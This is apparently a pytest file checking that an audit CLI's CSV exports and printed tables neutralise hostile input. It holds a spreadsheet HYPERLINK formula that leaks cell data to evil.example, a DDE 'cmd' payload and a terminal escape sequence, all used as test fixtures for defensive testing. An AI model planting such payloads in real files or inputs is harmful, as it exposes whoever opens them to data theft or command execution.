"""CLI output cannot be turned against whoever opens it: no spreadsheet formulas, no terminal escapes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from bot.cli import main
from bot.config import EXAMPLE_PROGRAM
from bot.db.audit import append_event
from bot.db.engine import transaction
from tests.audit_fixture import local
from tests.cli.test_audit_cli import restore_logging  # noqa: F401  (autouse fixture)
from tests.helpers import load_roster
from tests.live_support import make_decision

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPE = "\x1b]0;pwned\x07title\x1b[2J"


@pytest.fixture
def hostile(sessions, database_url: str, monkeypatch: pytest.MonkeyPatch) -> dict[str, int]:
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("CASEBOOK_PROGRAM", str(EXAMPLE_PROGRAM))
    load_roster(sessions, local(2026, 11, 2, 9, 0))
    with transaction(sessions) as session:  # a free-text reason as people type them
        append_event(
            session=session,
            now=local(2026, 11, 16, 13, 0),
            actor="U0LEAD",
            action="role.changed",
            subject_type="person",
            subject_id="U0ENG1",
            reason=FORMULA,
        )
    return {
        "formula": make_decision(sessions, now=local(2026, 11, 16, 10, 0), title=FORMULA),
        "sum": make_decision(sessions, now=local(2026, 11, 16, 11, 0), title="@SUM(1+1)*cmd|' /C calc'!A0"),
        "escape": make_decision(sessions, now=local(2026, 11, 16, 12, 0), title=ESCAPE),
    }


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    return code, capsys.readouterr().out


def test_query_csv_cells_never_start_a_formula(hostile, capsys) -> None:
    argv = ["audit", "decisions", "--user", "U0ENG1", "--from", "2026-11-16", "--to", "2026-11-16"]
    code, out = _run(capsys, *argv, "--format", "csv")
    assert code == 0
    cells = [cell for row in csv.reader(io.StringIO(out)) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_tables_and_history_print_no_control_characters(hostile, capsys) -> None:
    argv = ["audit", "decisions", "--user", "U0ENG1", "--from", "2026-11-16", "--to", "2026-11-16"]
    code, table = _run(capsys, *argv)
    assert code == 0 and "title" in table
    code, history = _run(capsys, "audit", "history", str(hostile["escape"]))
    assert code == 0 and "pwned" in history
    for out in (table, history):
        assert not [ch for ch in out if (ord(ch) < 32 and ch != "\n") or 0x7F <= ord(ch) <= 0x9F]


def test_the_evidence_export_neutralises_formulas_and_still_verifies(hostile, capsys, tmp_path: Path) -> None:
    path = tmp_path / "audit.csv"
    assert main(["audit", "export", "--format", "csv", "--output", str(path)]) == 0
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{FORMULA}" in cells
    code, out = _run(capsys, "audit", "verify", "--file", str(path))
    assert code == 0 and "events verified" in out
